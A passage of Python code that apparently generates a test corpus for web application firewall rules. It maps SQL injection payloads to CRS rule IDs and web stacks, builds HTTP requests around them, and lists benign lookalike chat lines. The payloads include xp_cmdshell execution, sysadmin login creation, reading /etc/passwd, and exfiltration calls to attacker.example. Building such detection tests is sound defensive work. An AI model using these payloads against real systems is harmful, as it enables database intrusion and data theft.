        ("rails", "x') OR EXISTS(SELECT 1)--"),                                   # Rails
        ("aspnetcore", "'; EXECUTE master.dbo.xp_cmdshell 'dir'--"),              # ASP.NET Core, MSSQL
        ("go", "1 union select @@version"),                                       # Go, MySQL
        ("cgi", "' into outfile '/tmp/x'"),                                       # CGI, MySQL
        ("laravel", "' UNION DISTINCT SELECT 1-- -"),                             # Laravel, MySQL
    ]),
    (942390, "sql-injection-attack-942390", [
        ("wp", "' OR 2 BETWEEN 1 AND 3--"),                                       # WordPress
        ("laravel", "1 AND 'a' = 'a'"),                                           # Laravel
        ("express", "x' OR true--"),                                              # Express
        ("django", "1 OR NOT 0"),                                                 # Django
        ("aspnet", "' AND (1)=(1)--"),                                            # WebForms
        ("spring", "1 XOR (1)=(0)"),                                              # Spring, MySQL
        ("rails", "' OR 'a' IS NOT NULL--"),                                      # Rails
        ("go", "1 || 1"),                                                         # Go, MySQL
        ("cgi", "1 && 1"),                                                        # CGI, MySQL
        ("aspnetcore", "' OR id > 0--"),                                          # ASP.NET Core
    ]),
    (942400, "sql-injection-attack-942400", [
        ("wp", "1 AND 1 IN (SELECT 1)"),                                          # WordPress
        ("laravel", "' and 1 in (1)-- -"),                                        # Laravel
        ("express", "1 and 2>1"),                                                 # Express
        ("aspnet", "1 AND 1 = ANY (SELECT 1)"),                                   # WebForms, MSSQL
        ("django", "1 AND 1 = SOME (SELECT 1)"),                                  # Django, Postgres
        ("spring", "1 and 1 = ALL (select 1 from dual)"),                         # Spring, Oracle
        ("rails", "x' AND 2<3 AND 'a'='a"),                                       # Rails
        ("go", "1 and 12=12"),                                                    # Go
        ("cgi", "1 AND (SELECT 1)=1"),                                            # CGI
        ("drupal", "-1' AND 9 IN (9)#"),                                          # Drupal, MySQL
    ]),
    (942410, "sql-injection-attack-942410", [
        ("wp", "1 AND FIND_IN_SET('a',user())"),                                  # WordPress, MySQL
        ("laravel", "1 AND UPDATEXML(1,CONCAT(0x7e,version()),1)"),               # Laravel, MySQL
        ("express", "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
                    "FROM information_schema.tables GROUP BY x)a)"),              # Express, MySQL
        ("django", "1 AND CAST(version() AS int)=1"),                             # Django, Postgres
        ("aspnet", "1 AND 1=CONVERT(int,@@version)--"),                           # WebForms, MSSQL
        ("struts", "' AND CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))=1--"),     # Struts, Oracle
        ("rails", "1 AND STRPOS(current_user,'p')>0"),                            # Rails, Postgres
        ("go", "1 AND instr(sqlite_version(),'3')>0"),                            # Go, SQLite
        ("cgi", "1 AND NAME_CONST(version(),1)"),                                 # CGI, MySQL
        ("drupal", "1 AND HEX(UNHEX(0x41))=41"),                                  # Drupal, MySQL
        ("express", "x' AND EXTRACTVALUE(1,0x7e)-- -"),                           # Express, MySQL
    ]),
    (942470, "sql-injection-attack-942470", [
        ("aspnet", "'; EXEC xp_regwrite 'HKEY_LOCAL_MACHINE','x','y','REG_SZ','z'--"),  # WebForms, MSSQL
        ("aspnet", "1;EXEC sp_addlogin 'x','y'--"),                               # WebForms, MSSQL
        ("aspnetcore", "1;EXEC sp_addsrvrolemember 'x','sysadmin'--"),            # ASP.NET Core, MSSQL
        ("spring", "' AND utl_http.request('http://attacker.example/'||user)=1--"),  # Spring, Oracle
        ("struts", "'||dbms_pipe.receive_message('a',5)||'"),                     # Struts, Oracle
        ("express", "';SELECT * FROM OPENDATASOURCE('SQLOLEDB','Data Source=203.0.113.9;User ID=sa')"
                    ".master.dbo.sysdatabases--"),                                # Express + tedious
        ("django", "'; DECLARE PRAGMA AUTONOMOUS_TRANSACTION; BEGIN NULL; END;--"),  # Django + cx_Oracle
        ("go", "1;EXEC xp_servicecontrol 'start','schedule'--"),                  # Go, MSSQL
        ("cgi", "'; exec sp_helpdb--"),                                           # CGI, MSSQL
        ("aspnet", "1;DECLARE @s NVARCHAR(4000);SET @s=CAST(0x73656c65637420 AS NVARCHAR(4000));EXEC(@s)--"),
        ("rails", "1 AND UTL_INADDR.get_host_address('x.attacker.example') IS NOT NULL"),  # Rails, Oracle
    ]),
    (942480, "sql-injection-attack-942480", [
        ("wp", "1'; LOAD DATA INFILE '/etc/passwd' INTO TABLE t-- -"),            # WordPress, MySQL
        ("laravel", "1' INNER JOIN users ON 1=1-- -"),                            # Laravel, MySQL
        ("express", "1 GROUP BY 1 HAVING COUNT(*)>0"),                            # Express
        ("django", "'; DELETE FROM django_session--"),                            # Django
        ("aspnet", "'; INSERT INTO Users(name) VALUES ('x')--"),                  # WebForms, MSSQL
        ("spring", "' AND (SELECT COUNT(*) FROM users WHERE name LIKE 'a%')>0--"),  # Spring
        ("rails", "1 AND (SELECT count(*) FROM users)>0"),                        # Rails
        ("go", "x' AND (SELECT CASE WHEN 1 THEN 1 END FROM sqlite_master)--"),    # Go, SQLite
        ("cgi", "1 INTO OUTFILE '/tmp/o.txt'"),                                   # CGI, MySQL
        ("aspnetcore", "1 AND (SELECT TOP 1 char(65) FROM sysusers)='A'"),        # ASP.NET Core, MSSQL
        ("struts", "' and dbms_xmlgen.getxml('select 1 from dual') is not null--"),  # Struts, Oracle
    ]),
    (942430, "sqli-restricted-special-characters", [
        ("wp", "'))))))))))))--"),                                                # WordPress
        ("laravel", "'\";;;;;;;;;;;;--"),                                         # Laravel
        ("express", "((((((((((((1))))))))))))"),                                 # Express
        ("aspnet", "~!@#$%^&*()_+{}|:\"<>?"),                                     # WebForms
        ("django", "1'\"'\"'\"'\"'\"'\"'\""),                                     # Django
        ("rails", "'-'-'-'-'-'-'-'-"),                                            # Rails
        ("spring", "%%%%%%%%%%%%%%%"),                                            # Spring, LIKE wildcards
        ("go", "'/**/'/**/'/**/'"),                                               # Go
        ("cgi", ";;;;;;;;;;;;;;;"),                                               # CGI
        ("aspnetcore", "'||'||'||'||'||'||'"),                                    # ASP.NET Core
        ("drupal", "1'=';--#/*!*/"),                                              # Drupal
    ]),
    (942440, "sqli-comment-sequence", [
        ("wp", "admin'--"),                                                       # WordPress
        ("laravel", "1 -- -"),                                                    # Laravel, MySQL
        ("express", "x';--"),                                                     # Express
        ("aspnet", "1/*"),                                                        # WebForms, MSSQL
        ("spring", "1*/"),                                                        # Spring
        ("django", "x'#"),                                                        # Django, MySQL
        ("rails", "1--+"),                                                        # Rails
        ("go", "/**/"),                                                           # Go
        ("cgi", "1;#"),                                                           # CGI
        ("aspnetcore", "');--"),                                                  # ASP.NET Core
        ("drupal", "1 /*! 50000 */"),                                             # Drupal, MySQL
    ]),
    (942450, "sqli-hex-encoding", [
        ("wp", "0x61646d696e"),                                                   # WordPress, MySQL
        ("laravel", "SELECT 0x3c3f7068702073797374656d28293b3f3e"),               # Laravel, MySQL
        ("express", "1 AND user=0x726f6f74"),                                     # Express, MySQL
        ("go", "x'41424344'"),                                                    # Go, SQLite blob
        ("aspnet", "0x73656c656374204040766572736f696e"),                         # WebForms, MSSQL
        ("spring", "1 UNION SELECT 0x48656c6c6f"),                                # Spring, MySQL
        ("rails", "0X4142434445"),                                                # Rails, MySQL
        ("cgi", "unhex(0x2f6574632f706173737764)"),                               # CGI, MySQL
        ("aspnetcore", "CAST(0x77616974666f722064656c61792027303a303a3527 AS VARCHAR(100))"),  # MSSQL
        ("drupal", "0x2f6574632f706173737764"),                                   # Drupal, MySQL
    ]),
    (942510, "sqli-ticks-backticks-bypass", [
        ("wp", "`1`=`1`"),                                                        # WordPress, MySQL
        ("laravel", "x` or 1=1-- -"),                                             # Laravel, MySQL column
        ("express", "\u2018 or \u20181\u2019=\u20181"),                           # Express, curly quotes
        ("aspnet", "\u00b4 or \u00b41\u00b4=\u00b41"),                            # WebForms, acute accents
        ("spring", "`admin`#"),                                                   # Spring, MySQL
        ("django", "` or 1=1"),                                                   # Django, MySQL
        ("rails", "\u2019 OR \u2019\u2019=\u2019"),                               # Rails, curly quotes
        ("go", "``OR 1``"),                                                       # Go, MySQL
        ("cgi", "`id`,`name` FROM users#"),                                       # CGI, MySQL
        ("drupal", "title` DESC -- "),                                            # Drupal ORDER BY
    ]),
    # CRS 4.x titles (paranoia levels 1-2)
    (0, "sqli-json-based", [
        ("django", "1 AND '{\"a\":2}'::jsonb @> '{\"a\":2}'"),                    # Django, Postgres
        ("rails", "' OR '{\"b\":1}'::jsonb <@ '{\"b\":1,\"c\":2}'--"),            # Rails, Postgres
        ("laravel", "1 AND JSON_EXTRACT('{\"a\":1}','$.a')=1"),                   # Laravel, MySQL
        ("express", "1 OR JSON_LENGTH('[1,2]')=2"),                               # Express, MySQL
        ("go", "1 AND json_array_length('[1]')=1"),                               # Go, SQLite
        ("aspnetcore", "1 AND JSON_VALUE('{\"a\":\"1\"}','$.a')='1'--"),          # ASP.NET Core, MSSQL 2016
        ("spring", "1 OR '{\"x\":1}'::json->>'x'='1'"),                           # Spring, Postgres
        ("flask", "1 AND jsonb_typeof('{}')='object'"),                           # Flask, Postgres
        ("wp", "' OR JSON_CONTAINS('[1]','1')-- -"),                              # WordPress, MySQL
        ("express", "1 AND JSON_KEYS('{\"a\":1}') IS NOT NULL"),                  # Express, MySQL
        ("cgi", "1 OR JSON_OBJECT('a',1) IS NOT NULL"),                           # CGI, MySQL
    ]),
    (0, "sqli-mysql-scientific-notation", [
        ("wp", "1.e(ascii 1.e(substring(1.e(select user() 1.e) 1.e,1 1.e,1 1.e) 1.e)) = 114 or'1'='2"),
        ("laravel", "1e0UNION SELECT 1"),                                         # Laravel, MySQL
        ("express", "1 or 1.e(1)"),                                               # Express, MySQL
        ("flask", "0.1e1UNION SELECT user()"),                                    # Flask + PyMySQL
        ("rails", "1.e(select 1 1.e)"),                                           # Rails + mysql2
        ("spring", "1.0union select 1"),                                          # Spring, MySQL
        ("aspnetcore", "' UNION SELECT 1.e,2.e,table_name FROM information_schema.tables-- "),  # MySQL
        ("go", "1e1union select 2"),                                              # Go, MySQL
        ("cgi", "2.e(select(version()))"),                                        # CGI, MySQL
        ("drupal", "1.e.users"),                                                  # Drupal, MySQL identifier
    ]),
    (0, "sqli-auth-bypass-split-query", [
        ("wp-qs", "log=admin%27%2F%2A&pwd=%2A%2F%20OR%20%271%27%3D%271"),         # WordPress wp-login fields
        ("django-qs", "username=%5C&pin=%20OR%201%3D1%23"),                       # backslash-escaped quote
        ("express-qs", "user=admin%27%2F%2A&pass=%2A%2Fand%201%3D1--%20"),        # Express login
        ("rails-qs", "session[email]=x%27%2F%2A&session[pin]=%2A%2FOR%20%27%27%3D%27"),  # Rails sessions
        ("wp", "admin';#"),                                                       # WordPress
        ("aspnet", "admin';--"),                                                  # WebForms, MSSQL
        ("spring", "x\";#"),                                                      # Spring, MySQL
        ("go", "admin' ;--"),                                                     # Go
        ("cgi", "1';"),                                                           # CGI
        ("laravel-qs", "email=a%27%2F%2A&token=%2A%2Funion%20select%201--%20-"),  # Laravel login
    ]),
    (0, "sqli-auth-bypass-4-of-4", [
        ("wp", "admin' or 'x"),                                                   # WordPress
        ("express", "' or true"),                                                 # Express
        ("laravel", "\\' OR 1=1-- -"),                                            # Laravel, escaped quote
        ("django", "x\" or \"\"=\""),                                             # Django
        ("aspnet", "a' and 1 --"),                                                # WebForms
        ("spring", "'OR'"),                                                       # Spring
        ("rails", "' or \"1\"=\"1"),                                              # Rails
        ("go", "admin\" and \"1"),                                                # Go
        ("cgi", "\\\" or 1#"),                                                    # CGI, escaped double quote
        ("aspnetcore", "admin' OR 'a'='a' --"),                                   # ASP.NET Core
    ]),
]

FAMILY = {"wp": "php", "laravel": "php", "drupal": "php", "spring": "java", "struts": "java", "tomcat": "java",
          "aspnet": "dotnet", "aspnetcore": "dotnet", "express": "node", "django": "python", "flask": "python",
          "rails": "ruby", "go": "go", "cgi": "cgi"}

# how each stack takes a value: query, form and multipart field names, JSON documents, cookies, own header
QUERY_NAME = {"wp": "s", "laravel": "filter[name]", "drupal": "title[value]", "spring": "sort", "struts": "id",
              "tomcat": "name", "aspnet": "id", "aspnetcore": "Filter.Name", "express": "filter[where][name]",
              "django": "ids", "flask": "tag", "rails": "user[name]", "go": "id", "cgi": "arg1"}
QUERY_BEFORE = {"django": [("ids", "1")], "flask": [("tag", "news")], "wp": [("post_type[]", "post")]}
FORM_NAME = {"wp": "s", "laravel": "search[term]", "drupal": "keys", "spring": "criteria.name",
             "struts": "user.name", "tomcat": "q", "aspnet": "ctl00$MainContent$txtSearch", "aspnetcore": "Input.Query",
             "express": "user[name]", "django": "q", "flask": "tags", "rails": "user[name]", "go": "q", "cgi": "arg1"}
FORM_BEFORE: dict[str, list[tuple[str, str]]] = {
    "aspnet": [("__VIEWSTATE", "/wEPDwUKMTY3NzE5MjIyMGRkZmI4NQ=="), ("__VIEWSTATEGENERATOR", "CA0B0334"),
               ("__EVENTVALIDATION", "/wEdAAKf5F0Nhe9ZJg==")],
    "aspnetcore": [("__RequestVerificationToken", "CfDJ8Nq3xY2k")],
    "rails": [("utf8", "\u2713"), ("authenticity_token", "Zm9vYmFy")],
    "laravel": [("_token", "Kx8mLq2v")], "drupal": [("form_id", "search_block_form")],
    "django": [("q", "report")], "flask": [("tags", "news")], "wp": [("post_type", "post")],
}
COOKIE_BASE = {"wp": ("wordpress_test_cookie=WP%20Cookie%20check; wp-settings-time-1=1719000000", "wp-settings-1"),
               "laravel": ("laravel_session=eyJpdiI6IkxxIn0%3D", "locale"),
               "drupal": ("SESS5f2a9c=Qm9vbQ", "Drupal.visitor.name"),
               "spring": ("JSESSIONID=8F3A1C2B4D5E6F70", "lang"), "struts": ("JSESSIONID=7E2D1C0B9A", "theme"),
               "tomcat": ("JSESSIONID=0A1B2C3D4E", "pref"), "aspnet": ("ASP.NET_SessionId=3xk2v1qz0y", "UserPrefs"),
               "aspnetcore": (".AspNetCore.Session=CfDJ8abc", ".AspNetCore.Culture"),
               "express": ("connect.sid=s%3Aabc.def", "theme"), "django": ("sessionid=k2j3h4g5", "django_language"),
               "flask": ("session=eyJ1Ijox.ZmFrZQ", "tz"), "rails": ("_app_session=YWJj--ZGVm", "locale"),
               "go": ("gsid=abc123", "id"), "cgi": ("CGISESSID=abc123", "arg1")}
OWN_HEADER = {"wp": "X-Forwarded-For", "laravel": "X-Tenant-Id", "drupal": "X-Locale", "spring": "X-Sort",
              "struts": "X-Requested-By", "tomcat": "X-Client-Id", "aspnet": "X-Correlation-Id",
              "aspnetcore": "X-Api-Filter", "express": "X-Filter", "django": "X-Client-Version", "flask": "X-Tag",
              "rails": "X-Request-Id", "go": "X-Trace-Id", "cgi": "X-Arg"}
JSON_DOC = {
    "wp": lambda v: {"search": v, "per_page": 10},                          # WP REST API
    "laravel": lambda v: {"filter": {"name": v}},
    "drupal": lambda v: {"data": {"type": "node--article", "attributes": {"title": v}}},   # JSON:API
    "spring": lambda v: {"sort": v, "page": 0, "size": 20},                 # Pageable
    "struts": lambda v: {"user": {"name": v}},
    "tomcat": lambda v: {"name": v},
    "aspnet": lambda v: {"request": {"Name": v}},                           # PageMethod
    "aspnetcore": lambda v: {"Filter": {"Name": v}},
    "express": lambda v: {"filter": {"where": {"name": {"like": v}}}},      # LoopBack-style
    "django": lambda v: {"ids": [1, v]},
    "flask": lambda v: {"tags": ["news", v]},
    "rails": lambda v: {"user": {"name": v}},
    "go": lambda v: {"id": v},
    "cgi": lambda v: {"arg1": v},
}
UPLOAD_FIELD = {"php": "async-upload", "ruby": "user[avatar]", "dotnet": "ctl00$MainContent$fileUpload"}

REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Custom", "param-name",
        "xml", "multipart-field", "multipart-filename", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
RS_GET = ["/", "/get", "/search", "/api/v1/items"]
RS_POST = ["/post", "/", "/api/v1/items", "/search"]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"


def _enc(v: str, stack: str) -> str:
    """A query value as the stack's clients encode it; classic ASP.NET on IIS also takes %uXXXX."""
    if stack == "aspnet":
        return "".join(c if c.isascii() and (c.isalnum() or c in "-_.") else f"%u{ord(c):04x}" for c in v)
    return urllib.parse.quote(v, safe="")


def _qs(pairs: list[tuple[str, str]], stack: str) -> str:
    return "&".join(urllib.parse.quote(k, safe="[]$.") + "=" + _enc(v, stack) for k, v in pairs)


def _xml_text(v: str) -> str:
    return v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _headers(extra: dict[str, str] | None = None, ctype: str | None = None) -> dict[str, str]:
    h = {"User-Agent": UA, "Accept": "*/*"}
    if ctype:
        h["Content-Type"] = ctype
    return {**h, **(extra or {})}


def _req(method: str, uri: str, body: str = "", headers: dict[str, str] | None = None) -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": body, "headers": headers or _headers()}


def _multipart(parts: list[tuple[str, str, str | None]]) -> str:
    """(name, value, filename) parts of a multipart/form-data body."""
    out = []
    for name, value, filename in parts:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename is not None else "")
        ctype = "Content-Type: image/png\r\n" if filename is not None else ""
        out.append(f"--{BOUNDARY}\r\nContent-Disposition: {disp}\r\n{ctype}\r\n{value}\r\n")
    return "".join(out) + f"--{BOUNDARY}--\r\n"


def _xml_body(stack: str, v: str) -> tuple[str, dict[str, str]]:
    fam, t = FAMILY[stack], _xml_text(v)
    if fam == "php":   # WordPress/Drupal XML-RPC
        return ("<?xml version=\"1.0\"?><methodCall><methodName>wp.getUsers</methodName><params><param><value>"
                f"<string>{t}</string></value></param></params></methodCall>", {"Content-Type": "text/xml"})
    if fam == "dotnet":   # ASMX / WCF SOAP
        return ("<?xml version=\"1.0\" encoding=\"utf-8\"?><soap:Envelope "
                "xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><Search "
                f"xmlns=\"http://tempuri.org/\"><name>{t}</name></Search></soap:Body></soap:Envelope>",
                {"Content-Type": "text/xml; charset=utf-8", "SOAPAction": "\"http://tempuri.org/Search\""})
    return (f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><user><name>{t}</name></user>",
            {"Content-Type": "application/xml"})


def real_place(place: str, stack: str, v: str) -> dict[str, Any]:
    """The value v of a stack sent to one of our routes."""
    fam = FAMILY[stack]
    path = "/api/users;jsessionid=8F3A1C2B4D5E6F70" if fam == "java" else "/api/users"
    if place == "query":
        return _get(path + "?" + _qs([*QUERY_BEFORE.get(stack, []), (QUERY_NAME[stack], v)], stack))
    if place == "form":
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), *FORM_BEFORE.get(stack, []),
                                             (FORM_NAME[stack], v)])
    if place == "json":
        return _json("/api/users", JSON_DOC[stack](v))
    if place == "cookie":
        base, name = COOKIE_BASE[stack]
        return _req("GET", "/api/users?page=1", headers=_headers(
            {"Cookie": f"{base}; {name}={urllib.parse.quote(v, safe='')}"}))
    if place == "header:User-Agent":
        return _req("GET", "/api/users?page=1", headers=_headers({"User-Agent": v}))
    if place == "header:Referer":
        return _req("GET", "/api/users?page=1", headers=_headers({"Referer": "https://app.example.com/users?id=" + v}))
    if place == "header:X-Custom":
        return _req("GET", "/api/users?page=1", headers=_headers({OWN_HEADER[stack]: v}))
    if place == "param-name":
        q = urllib.parse.quote(v, safe="")
        key = {"php": f"id[{q}]", "ruby": f"user[{q}]", "node": f"filter[{q}]"}.get(fam, q)
        return _get(f"/api/users?{key}=1&page=1")
    if place == "xml":
        body, h = _xml_body(stack, v)
        return _req("POST", "/api/users", body, _headers(h))
    if place == "multipart-field":
        body = _multipart([("csrf_token", "t0k3n", None), (FORM_NAME[stack], v, None)])
        return _req("POST", "/admin/users/search", body,
                    _headers(ctype=f"multipart/form-data; boundary={BOUNDARY}"))
    if place == "multipart-filename":
        body = _multipart([("csrf_token", "t0k3n", None),
                           (UPLOAD_FIELD.get(fam, "file"), "\x89PNG-data", v + ".png")])
        return _req("POST", "/api/users", body, _headers(ctype=f"multipart/form-data; boundary={BOUNDARY}"))
    # path: Java takes it as a matrix parameter, the others as a path segment
    q = urllib.parse.quote(v, safe="")
    return _get(f"/api/users/42;name={q}" if fam == "java" else f"/api/users/{q}")


def rs_place(place: str, stack: str, v: str, k: int) -> dict[str, Any]:
    """The value v sent the way a WAF regression suite sends it (k picks paths and parameter names)."""
    fam = FAMILY[stack]
    own = {"php": "/index.php", "cgi": "/cgi-bin/test.cgi"}.get(fam)
    get_path, post_path = own or RS_GET[k % len(RS_GET)], own or RS_POST[k % len(RS_POST)]
    p = RS_PARAMS[k % len(RS_PARAMS)]
    if place == "rs-query":
        return _req("GET", f"{get_path}?{p}={_enc(v, stack)}")
    if place == "rs-form":
        return _req("POST", post_path, urllib.parse.urlencode([(p, v)]),
                    _headers(ctype="application/x-www-form-urlencoded"))
    if place == "rs-json":
        return _req("POST", post_path, json.dumps({p: v}), _headers(ctype="application/json"))
    if place == "rs-xml":
        return _req("POST", post_path, f"<?xml version=\"1.0\"?><root><{p}>{_xml_text(v)}</{p}></root>",
                    _headers(ctype="application/xml"))
    if place == "rs-raw-body":
        return _req("POST", post_path, v, _headers(ctype="application/x-www-form-urlencoded"))
    if place == "rs-header:User-Agent":
        return _req("GET", get_path, headers=_headers({"User-Agent": v}))
    if place == "rs-header:Referer":
        return _req("GET", get_path, headers=_headers({"Referer": v}))
    if place == "rs-header:X-Custom":
        return _req("GET", get_path, headers=_headers({"X-Custom-Test": v}))
    return _req("GET", get_path, headers=_headers({"Cookie": f"{p}={urllib.parse.quote(v, safe='')}"}))


def _header_safe(v: str) -> bool:
    return v.isascii() and v.isprintable()


def _fits(place: str, v: str) -> bool:
    if "header" in place or (place == "multipart-filename"):
        return _header_safe(v) and '"' not in v
    return True


def _pick(places: list[str], start: int, v: str) -> str:
    for i in range(len(places)):
        place = places[(start + i) % len(places)]
        if _fits(place, v):
            return place
    raise ValueError(v)


def _whole(stack: str, v: str, real: bool, k: int) -> tuple[str, dict[str, Any]]:
    """A whole query string (-qs) or JSON document (-doc) of a stack, to our route or a suite's path."""
    kind = stack.rsplit("-", 1)[1]
    if kind == "doc":
        if real:
            return "json", _req("POST", "/api/users", v, _headers(ctype="application/json"))
        return "rs-json", _req("POST", RS_POST[k % len(RS_POST)], v, _headers(ctype="application/json"))
    form = k % 2 == 1
    if real:
        if form:
            return "form", _req("POST", "/admin/users/search", "csrf_token=t0k3n&" + v,
                                _headers(ctype="application/x-www-form-urlencoded"))
        return "query", _get("/api/users?" + v)
    if form:
        return "rs-form", _req("POST", RS_POST[k % len(RS_POST)], v,
                               _headers(ctype="application/x-www-form-urlencoded"))
    return "rs-query", _req("GET", RS_GET[k % len(RS_GET)] + "?" + v)


def attacks() -> Iterator[dict[str, Any]]:
    n = g = 0
    for _rule, sub, entries in TITLES:
        for stack, v in entries:
            g += 1
            if "-" in stack:
                pairs = [_whole(stack, v, True, g), _whole(stack, v, False, g)]
            else:
                real, rs = _pick(REAL, g, v), _pick(RS, g * 4 + g // len(RS), v)
                pairs = [(real, real_place(real, stack, v)), (rs, rs_place(rs, stack, v, g))]
            for place, rec in pairs:
                n += 1
                yield {**rec, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub, "placement": place,
                       "payload": v}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently.

CHAT = [
    "can someone review my PR? it adds a UNION ALL to the reporting query so we stop running two selects",
    "reminder: never build SQL by string concatenation, use bound parameters (? or %s)",
    "the nightly job does SELECT count(*) FROM orders and it takes 40s now, any index ideas?",
    "I'll sleep on it and decide tomorrow",
    "benchmark results: p99 went from 120ms to 85ms after the cache change",
    "O'Brien's team is merging the migration branch today",
    "merge conflict in schema.rb again, who touched the users table?",
    "execute the runbook step 4, then shut down the old replica",
    "there's a delay on the release train, ETA 3pm",
    "the brand colour is #ff6600 and the hover state is #e65c00",
    "crash log shows address 0x7ffee4b2a8c0, filing a bug with the vendor",
    "max int is 2147483647 and our counter wrapped at 4294967296 events, lol",
    "let's match the totals against the old report before we drop the column",
    "don't forget the -- in front of the flag, like --dry-run",
    "it's a 'nice to have', not a must-have",
    "we're having pizza on Friday, who's in?",
    "does the config file exist on staging? I can't find it",
    "the Union Square office is closed Monday",
    "Select the files you want and hit Upload",
    "can't wait for the weekend \U0001F389",
    "Django's ORM handles the escaping, don't use raw() with f-strings",
    "Laravel's whereIn() takes an array, not a comma string",
    "Spring Data sorts by the Pageable's sort param, we whitelist the columns",
    "the MongoDB query uses $in for the tag filter, works great",
    "pg_stat_statements shows the slow query is the report join",
    "WAITFOR in the stored proc was for the legacy batch, we removed it",
    "benchmark() in MySQL is only for the perf tests, not prod",
    "who owns the information_schema permission grant for the BI tool?",
    "I renamed the table to orders_archive and updated the views",
    "the CASE WHEN in the dashboard query splits revenue by region",
    "is 'Rock 'n' Roll' a valid playlist name? the form rejected it",
    "D'Angelo and O'Hara joined the on-call rotation",
    "use backticks for code in Slack, like `SELECT 1`",
    "the hex colour #1e90ff looks better than #0000ff on dark mode",
    "shutdown of the old datacenter is scheduled for March",
    "I'll merge after lunch, just waiting for CI",
    "Our DBA says: no DROP TABLE on Fridays!",
    "insert coin to continue \U0001F579",
    "update: the vendor fixed the invoice, total is $1,250",
    "delete the old branches when you're done, please",
    "create a ticket for the login page copy change",
    "the 'alter ego' campaign launches next week",
    "the JSON field stores prefs like {\"theme\": \"dark\"}",
    "grep for 'TODO' and 'FIXME' before the release",
    "We are 1-0 up at half time!",
    "ratio is 3:1, so 75% of traffic goes to blue",
    "the A/B test (variant B) won by 2.3%",
    "match day tomorrow, office will be quiet",
    "I'm between meetings until 4, ping me after",
    "select all, copy, paste into the sheet",
    "Is the sleep timer on the smart speaker broken for anyone else?",
    "the char limit for bios is 160",
    "my score was 1=1 in the quiz, a tie with Priya",
    "the SQL course covers JOIN, GROUP BY and HAVING in week 2",
    "exec team offsite is on the 12th",
    "or we could just ship it as is and iterate",
    "and then the build failed again, third time today",
    "who broke the `make test` target?",
    "@channel the VPN will be down 22:00-23:00 for maintenance",
    "the version string is 8.0.36-0ubuntu0.22.04.1",
    "I know, right?! That's what I said \u2014 it's 'fine'",
    "use like 2 spaces, not tabs, in the YAML",
    "the report's title says 'Q3 \u2013 final' but it's the draft",
    "prices: $5/mo or $50/yr (save 17%)",
    "postgres 16 upgrade done, pg_upgrade took 12 minutes",
    "Oracle's dual table trips up everyone the first time",
    "MSSQL's TOP 10 vs LIMIT 10 in MySQL, classic",
    "SQLite is fine for the prototype, we'll move to Postgres later",
    "the Mongo aggregation uses $match then $group",
    "hashtags like #sales and #q3 help the search",
    "ticket #4821 is the one about the export",
    "read the 'Tips & Tricks' page first",
    "the user's name is Zo\u00eb O'Neil-Smith",
    "who knows the wifi at the Union Street cafe?",
    "'Hello' is the greeting the bot sends",
    "I'd rather not, but OK",
    "can you match my donation? \U0001F64F",
    "The merger closes in Q4, pending approval",
    "please execute the contract by Friday",
    "the conference had a talk on SQL injection, slides are on the wiki",
    "the WAF blocked my test with ' OR 1=1 on staging, as it should",
    "we use parameterized queries everywhere except the legacy reports",
    "ORDER BY is applied after GROUP BY, that's why the sort looks off",
    "try EXPLAIN ANALYZE on the query and paste the plan",
    "the JSON column uses ->> in Postgres for text extraction",
    "the cron runs at 0 3 * * * UTC",
    "version 2.0.0-rc.1 is tagged, release notes in the draft",
    "the font-weight is 700 and line-height 1.5",
    "my phone is +44 20 7946 0958 if you need me",
    "Dinner at 7? The place on 5th & Main",
    "the recipe says 1/2 cup sugar, 2 eggs, bake 25-30 min",
    "I'll be out of office 12/23 - 01/02",
    "That's the \"official\" answer, anyway",
    "lol \u00af\\_(\u30c4)_/\u00af",
    "the kids' play is on Thursday at 6",
    "Let's sync: what's blocking the launch?",
    "the new hire starts Monday; please say hi",
    "the Slack export shows 12,345 messages in #general",
    "drop me a line when you're back",
    "the execute permission on the script was missing, chmod +x fixed it",
    "having said that, the numbers look good",
    "if it exists in the cache we skip the DB call",
    "waiting for delay confirmation from the airline",
    "the benchmark suite lives in tools/bench",
    "the sleep() in the retry loop backs off exponentially",
    "union meeting at 5pm in the break room",
]

URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://dev.mysql.com/doc/refman/8.0/en/fulltext-search.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://www.postgresql.org/docs/current/functions-json.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://learn.microsoft.com/en-us/sql/t-sql/statements/merge-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/lnpls/EXECUTE-IMMEDIATE-statement.html",
    "https://www.sqlite.org/lang_select.html",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
    "https://laravel.com/docs/11.x/queries#where-clauses",
    "https://docs.djangoproject.com/en/5.0/topics/db/sql/",
    "https://guides.rubyonrails.org/active_record_querying.html#conditions",
    "https://developer.wordpress.org/reference/classes/wpdb/prepare/",
    "https://www.drupal.org/docs/drupal-apis/database-api",
    "https://docs.spring.io/spring-data/jpa/reference/jpa/query-methods.html",
    "https://pkg.go.dev/database/sql#DB.QueryContext",
    "https://expressjs.com/en/api.html#req.query",
    "https://en.wikipedia.org/wiki/Union_Station_(Los_Angeles)",
    "https://en.wikipedia.org/wiki/O%27Hare_International_Airport",
    "https://www.example.com/products?category=sleep&sort=price_asc",
